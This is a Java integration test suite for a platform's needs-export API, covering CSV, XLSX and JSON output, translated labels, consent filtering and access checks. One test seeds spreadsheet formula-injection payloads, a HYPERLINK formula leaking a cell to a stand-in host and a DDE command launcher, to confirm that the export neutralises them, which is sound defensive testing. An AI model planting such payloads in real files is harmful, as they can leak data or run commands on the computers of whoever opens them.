package org.taplatform.needs.export;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.hasItem;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import jakarta.inject.Inject;

import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.taplatform.events.SharingConsent;
import org.taplatform.needs.support.RegisterFixtures;
import org.taplatform.testsupport.TestInfrastructure;
import org.taplatform.testsupport.TestTokens;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;

/** Exports of a query: every page at once, codes beside labels, within consent. */
@QuarkusTest
@WithTestResource(TestInfrastructure.class)
class NeedExportResourceTest {

    @Inject
    RegisterFixtures fixtures;

    UUID cycle;

    @BeforeEach
    void needs() {
        cycle = fixtures.openCycle("export " + UUID.randomUUID(), LocalDate.now(), Map.of("UNTOC", List.of("EGY", "JOR")));
        fixtures.submit(cycle, "EGY", "UNTOC",
                RegisterFixtures.need("LEGAL.DRAFTING", "CYBERCRIME", SharingConsent.PUBLIC),
                RegisterFixtures.need("DATA.DATABASE", SharingConsent.UNODC_ONLY));
        fixtures.submit(cycle, "JOR", "UNTOC",
                RegisterFixtures.need("TRAINING.LAW_ENFORCEMENT", SharingConsent.PROVIDERS_AND_DONORS));
    }

    private byte[] export(String token, String format, Map<String, ?> parameters) {
        return given().auth().oauth2(token).queryParam("cycleId", cycle).queryParams(parameters).when()
                .get("/api/v1/needs/export." + format).then().statusCode(200)
                .header("Content-Disposition", containsString("attachment; filename=\"needs-")).extract().asByteArray();
    }

    private static List<CsvRecord> csv(byte[] file) {
        assertThat(file).startsWith(0xEF, 0xBB, 0xBF); // UTF-8 byte order mark, for spreadsheet programs
        String text = new String(file, 3, file.length - 3, StandardCharsets.UTF_8);
        try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(text)) {
            return reader.stream().toList();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    @Test
    void shouldExportCsvWithCodesBesideLabelsInTheLanguageAskedAndAnHxlRow() {
        List<CsvRecord> rows = csv(export(TestTokens.coordinator(), "csv", Map.of("lang", "ar", "hxl", true)));
        List<String> header = rows.get(0).getFields();
        assertThat(header).startsWith("id", "country", "country_label", "region", "region_label");
        assertThat(rows.get(1).getFields()).startsWith("#meta+id", "#country+code", "#country+name");
        assertThat(rows).hasSize(2 + 3);
        CsvRecord egypt = rows.stream().filter(r -> r.getField(header.indexOf("ta_subtype")).equals("LEGAL.DRAFTING"))
                .findFirst().orElseThrow();
        assertThat(egypt.getField(header.indexOf("country"))).isEqualTo("EGY");
        assertThat(egypt.getField(header.indexOf("country_label"))).isEqualTo("مصر");
        assertThat(egypt.getField(header.indexOf("thematic_area"))).isEqualTo("CYBERCRIME");
        assertThat(egypt.getField(header.indexOf("consent"))).isEqualTo("PUBLIC");
    }

    @Test
    void shouldNeutraliseCellsASpreadsheetWouldRunAsFormulas() {
        UUID planted = fixtures.openCycle("export formulas " + UUID.randomUUID(), LocalDate.now(),
                Map.of("UNTOC", List.of("LBN")));
        List<String> typed = List.of("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1",
                "@SUM(1,2)");
        fixtures.submit(planted, "LBN", "UNTOC", typed.stream().map(text -> new org.taplatform.events.survey.StatedNeed(
                UUID.randomUUID(), "LEGAL.DRAFTING", null, null, List.of(), "MEDIUM", text, SharingConsent.PUBLIC))
                .toArray(org.taplatform.events.survey.StatedNeed[]::new));
        byte[] file = given().auth().oauth2(TestTokens.coordinator()).queryParam("cycleId", planted).when()
                .get("/api/v1/needs/export.csv").then().statusCode(200).extract().asByteArray();
        List<CsvRecord> rows = csv(file);
        int description = rows.get(0).getFields().indexOf("description");
        assertThat(rows.subList(1, rows.size())).extracting(r -> r.getField(description))
                .containsExactlyInAnyOrderElementsOf(typed.stream().map(text -> "'" + text).toList());
    }

    @Test
    void shouldExportOnlyWhatTheReaderMaySee() {
        List<CsvRecord> rows = csv(export(TestTokens.donor("XM-DAC-41114"), "csv", Map.of()));
        int consent = rows.get(0).getFields().indexOf("consent");
        assertThat(rows).hasSize(1 + 2);
        assertThat(rows.subList(1, rows.size())).extracting(r -> r.getField(consent)).doesNotContain("UNODC_ONLY");
    }

    @Test
    void shouldExportXlsxAndJson() throws Exception {
        byte[] xlsx = export(TestTokens.focalPoint("EGY"), "xlsx", Map.of("hxl", true));
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            List<Row> rows = workbook.getFirstSheet().read();
            assertThat(rows.get(0).getCellText(1)).isEqualTo("Country code");
            assertThat(rows.get(1).getCellText(1)).isEqualTo("#country+code");
            // the focal point of Egypt: both of Egypt's needs, and Jordan's only if shared beyond UNODC (it is not public)
            assertThat(rows.subList(2, rows.size())).extracting(r -> r.getCellText(1)).containsOnly("EGY").hasSize(2);
            // the registration a real date, not text
            int registered = rows.get(1).getCellCount() - 1;
            assertThat(rows.get(1).getCellText(registered)).isEqualTo("#date+reported");
            assertThat(rows.get(2).getCell(registered).getType()).isEqualTo(org.dhatim.fastexcel.reader.CellType.NUMBER);
            assertThat(rows.get(2).getCellAsDate(registered)).isPresent();
        }
        // headers in the language asked for; the CSV keeps the machine names
        byte[] french = export(TestTokens.focalPoint("EGY"), "xlsx", Map.of("lang", "fr"));
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(french))) {
            Row header = workbook.getFirstSheet().read().get(0);
            assertThat(header.getCellText(2)).isEqualTo("Pays");
            assertThat(header.getCellText(header.getCellCount() - 1)).isEqualTo("Enregistré le (UTC)");
        }
        assertThat(csv(export(TestTokens.focalPoint("EGY"), "csv", Map.of("lang", "fr"))).get(0).getField(2))
                .isEqualTo("country_label");
        given().auth().oauth2(TestTokens.coordinator()).queryParam("cycleId", cycle).when()
                .get("/api/v1/needs/export.json").then().statusCode(200).contentType("application/json")
                .body("size()", org.hamcrest.Matchers.equalTo(3)).body("country", hasItem("JOR"))
                .body("labels.country", hasItem("Jordan"));
    }

    @Test
    void shouldRefuseUnknownFormatsAndReadersWithoutAccessToNeeds() {
        given().auth().oauth2(TestTokens.coordinator()).when().get("/api/v1/needs/export.pdf").then().statusCode(400)
                .contentType("application/problem+json").body("violations.field", hasItem("format"));
        given().auth().oauth2(TestTokens.withRoles("analyst", "analyst")).when().get("/api/v1/needs/export.csv")
                .then().statusCode(403);
        given().when().get("/api/v1/needs/export.csv").then().statusCode(401);
        given().auth().oauth2(TestTokens.coordinator()).queryParam("instrument", "NOPE").when()
                .get("/api/v1/needs/export.csv").then().statusCode(400).body("violations.field", hasItem("instrument"));
    }
}
